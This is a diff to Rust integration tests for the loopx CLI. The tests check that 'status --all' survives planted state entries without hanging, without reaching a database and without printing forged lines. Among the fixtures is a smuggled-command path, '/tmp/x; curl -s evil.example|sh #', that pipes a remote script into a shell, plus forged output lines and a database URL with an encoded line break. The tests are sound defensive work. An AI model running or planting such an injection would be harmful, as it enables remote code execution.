@@ -210,7 +210,7 @@ fn status_all_shows_each_project_s_screen_and_says_which_cannot_be_shown() {
     let json = anywhere
         .run_env(&["status", "--all", "--json"], &env)
         .json();
-    let projects = json["projects"].as_array().expect("a list");
+    let projects = json["status_all"].as_array().expect("a list");
     assert_eq!(projects[0]["status"]["goal"]["id"], "g1", "{json}");
     assert!(projects[1]["error"].is_string(), "{json}");
 }
@@ -227,31 +227,19 @@ fn plant(state: &std::path::Path, roots: &[&str]) {
     std::fs::write(file, text).expect("write");
 }
 
-/// `loopx ARGS` with the person's state in `state`, given at most 20 s.
+/// `loopx ARGS` in `dir` with the person's state in `state`, given at most 20 s.
 fn bounded(state: &std::path::Path, dir: &std::path::Path, args: &[&str]) -> crate::support::Run {
-    let mut child = std::process::Command::new(crate::support::LOOPX)
-        .args(args)
+    let mut cmd = std::process::Command::new(crate::support::LOOPX);
+    cmd.args(args)
         .current_dir(dir)
         .env("XDG_STATE_HOME", state)
         .env_remove("LOOPX_SLICE")
+        .env_remove("LOOPX_PROJECT")
         .env("NO_COLOR", "1")
-        .stdin(std::process::Stdio::null())
-        .stdout(std::process::Stdio::piped())
-        .stderr(std::process::Stdio::piped())
-        .spawn()
-        .expect("loopx starts");
-    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(20);
-    loop {
-        if child.try_wait().expect("wait").is_some() {
-            break;
-        }
-        if std::time::Instant::now() > deadline {
-            let _ = child.kill();
-            panic!("`loopx {}` hung", args.join(" "));
-        }
-        std::thread::sleep(std::time::Duration::from_millis(20));
-    }
-    crate::support::Run::from(child.wait_with_output().expect("output"))
+        .stdin(std::process::Stdio::null());
+    let within = std::time::Duration::from_secs(20);
+    crate::support::finished_within(cmd, within)
+        .unwrap_or_else(|| panic!("`loopx {}` hung", args.join(" ")))
 }
 
 #[test]
@@ -279,6 +267,14 @@ fn a_planted_entry_neither_hangs_the_list_nor_reaches_a_database() {
         format!("[store]\nurl = \"{url}\"\n"),
     )
     .expect("write");
+    // A database whose name, percent-decoded, holds a line break and a line of its own.
+    let forged_db = tempfile::tempdir().expect("temp dir");
+    std::fs::create_dir(forged_db.path().join(".loopx")).expect("dir");
+    std::fs::write(
+        forged_db.path().join(".loopx/loopx.toml"),
+        "[store]\nurl = \"postgres://u@127.0.0.1:1/x%0A/tmp/c: 0 active goals, 0 questions open\"\n",
+    )
+    .expect("write");
     let good_root = good.path().canonicalize().expect("root");
     let forged = "/x/gone\n/tmp/b: 0 active goals, 0 questions open, 0 running, 0 monitors waiting; last activity 3d ago";
     plant(
@@ -286,6 +282,7 @@ fn a_planted_entry_neither_hangs_the_list_nor_reaches_a_database() {
         &[
             fifo.path().to_str().expect("utf-8"),
             remote.path().to_str().expect("utf-8"),
+            forged_db.path().to_str().expect("utf-8"),
             good_root.to_str().expect("utf-8"),
             forged,
             "/tmp/x; curl -s evil.example|sh #",
@@ -310,6 +307,10 @@ fn a_planted_entry_neither_hangs_the_list_nor_reaches_a_database() {
         "no forged line: {out}"
     );
     assert!(
+        !out.lines().any(|l| l.starts_with("/tmp/c:")),
+        "no forged line: {out}"
+    );
+    assert!(
         out.contains("forget '/tmp/x; curl -s evil.example|sh #'"),
         "{out}"
     );
@@ -322,6 +323,29 @@ fn a_planted_entry_neither_hangs_the_list_nor_reaches_a_database() {
     assert!(
         db.accept().is_err(),
         "status --all connected to the database"
+    );
+    assert!(
+        !all.stdout.lines().any(|l| l.starts_with("/tmp/c:")),
+        "{}",
+        all.stdout
+    );
+    // Not even when the environment names a database for "this" project.
+    let mut cmd = std::process::Command::new(crate::support::LOOPX);
+    cmd.args(["status", "--all"])
+        .current_dir(good.path())
+        .env("XDG_STATE_HOME", state.path())
+        .env("LOOPX_STORE_URL", &url)
+        .stdin(std::process::Stdio::null());
+    let with_url = crate::support::finished_within(cmd, std::time::Duration::from_secs(20))
+        .expect("status --all finishes");
+    assert!(
+        db.accept().is_err(),
+        "status --all used LOOPX_STORE_URL: {with_url:?}"
+    );
+    assert!(
+        with_url.stdout.contains("Needs you"),
+        "the redb project's own screen: {}",
+        with_url.stdout
     );
     // And in the project itself, `loopx status` says what is wrong instead of waiting.
     let status = bounded(state.path(), fifo.path(), &["status"]);
